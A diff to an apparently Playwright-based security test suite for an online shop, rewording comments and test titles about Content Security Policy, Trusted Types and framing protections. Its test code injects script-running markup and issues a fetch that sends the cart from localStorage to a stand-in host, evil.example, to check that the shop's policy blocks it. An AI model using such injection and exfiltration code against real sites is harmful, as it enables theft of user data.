@@ -16,7 +16,7 @@ declare global {
 const evil = 'http://evil.example';
 
 test.beforeEach(async ({ context }) => {
-  // The hostile site serves everything. Only the browser's rules keep it out of the shop.
+  // The hostile site responds to every request. Only the browser's rules keep its content out of the shop.
   await context.route(`${evil}/**`, async (route) => {
     const { pathname } = new URL(route.request().url());
     if (pathname === '/frame.html') {
@@ -33,7 +33,7 @@ test.beforeEach(async ({ context }) => {
   });
 });
 
-/** Tries every way in which injected markup could run code. The page records what ran and what the policy blocked. */
+/** Injects markup that tries to run code in every known way. The page records what ran and what the policy blocked. */
 async function inject(page: Page): Promise<void> {
   await page.evaluate((origin) => {
     window.ran = [];
@@ -46,7 +46,7 @@ async function inject(page: Page): Promise<void> {
     };
     type Same = Record<'createHTML' | 'createScript' | 'createScriptURL', (text: string) => string>;
     const same = (text: string) => text;
-    // Markup injected by the server, or by a fault in a library, bypasses the page's policy.
+    // Creates a Trusted Types policy that allows everything, because injected markup may bypass the shop's own policy.
     const past = { createHTML: same, createScript: same, createScriptURL: same };
     const made = trustedTypes?.createPolicy(`hostile-${Math.random()}`, past) ?? past;
     const script = document.createElement('script');
@@ -70,7 +70,7 @@ async function inject(page: Page): Promise<void> {
     try {
       Reflect.apply(setTimeout, window, ['window.ran.push("evaluated text")', 0]);
     } catch {
-      // Text is refused where trusted code is required.
+      // The browser refuses to evaluate text.
     }
     void fetch(`${origin}/stolen?cart=${localStorage.getItem('cart') ?? ''}`).then(
       () => window.ran.push('sent away'),
@@ -126,7 +126,7 @@ test('markup injected into a page of the shop runs, loads and sends nothing', as
   expect(answered.filter((url) => url.startsWith(evil))).toEqual([]);
 });
 
-test('no text becomes markup or a script through a mistake in a library or in the shop’s code', async ({
+test('the browser refuses text that a library or the shop’s code would use as markup or as a script', async ({
   page,
 }) => {
   for (const path of ['/', '/admin/login']) {
@@ -136,7 +136,7 @@ test('no text becomes markup or a script through a mistake in a library or in th
   }
 });
 
-test('the same markup runs on a page without the shop’s policy', async ({ page }) => {
+test('the same markup runs code on a page without the shop’s policy', async ({ page }) => {
   await page.route(`${suite.shopUrl}/bare`, (route) =>
     route.fulfill({ contentType: 'text/html', body: '<!doctype html><body></body>' }),
   );
@@ -148,7 +148,7 @@ test('the same markup runs on a page without the shop’s policy', async ({ page
   expect((await readOutcome(page)).blocked).toEqual([]);
 });
 
-test('no other site can put the shop into a frame', async ({ page }) => {
+test('no other site can show the shop in a frame', async ({ page }) => {
   await page.goto(`${evil}/frame.html`);
   await expect.poll(() => page.frames().length).toBe(5);
   for (const frame of page.frames().slice(1)) {
